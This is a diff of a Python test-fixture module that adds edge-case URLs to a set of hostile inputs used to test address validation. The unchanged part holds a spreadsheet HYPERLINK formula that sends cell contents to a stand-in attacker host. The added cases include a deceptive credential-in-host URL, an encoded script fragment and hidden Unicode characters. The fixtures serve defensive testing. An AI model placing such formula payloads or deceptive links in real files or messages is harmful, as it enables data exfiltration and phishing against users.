@@ -45,7 +45,7 @@ from sinouk_innov.quantities import Bound, Quantity, Unit
 if TYPE_CHECKING:
     from sinouk_innov.model.record import Record
 
-__all__ = ["ADDRESSES", "HOSTILE", "hostile"]
+__all__ = ["ADDRESSES", "FOLLOWED", "HOSTILE", "hostile"]
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -96,9 +96,18 @@ ADDRESSES = {
     "control": "https://evil.example/\x00\x01",
     "port alone": "http://:80/",
     "no host": "http://[",
-    "not ascii": "https://例え.example/é\u202e",
+    "turned": "https://例え.example/é\u202e",
+    "user": "https://www.example.org:pass@evil.example/",
+    "space": "https://evil.example/\u200b",
+    "marks": "https://evil.example/`^[a]",
+    "half a code": "https://evil.example/100%",
+    "not ascii": "https://例え.example/é?边=1#\u0301",
+    "all signs": "https://evil.example:8443/-._~!$&'()*+,;=:@/%3Cscript%3E%22?a=b&c=/?#d?e'=1",
+    "number": "http://[2001:db8::1]/?x=--%3E",
 }
 """Each is an address that the model takes, which asks for http or https and no white space."""
+FOLLOWED = frozenset(ADDRESSES[what] for what in ("not ascii", "all signs", "number"))
+"""Those that a browser may follow as they stand."""
 
 
 def _name(text: str) -> tuple[Name, ...]:
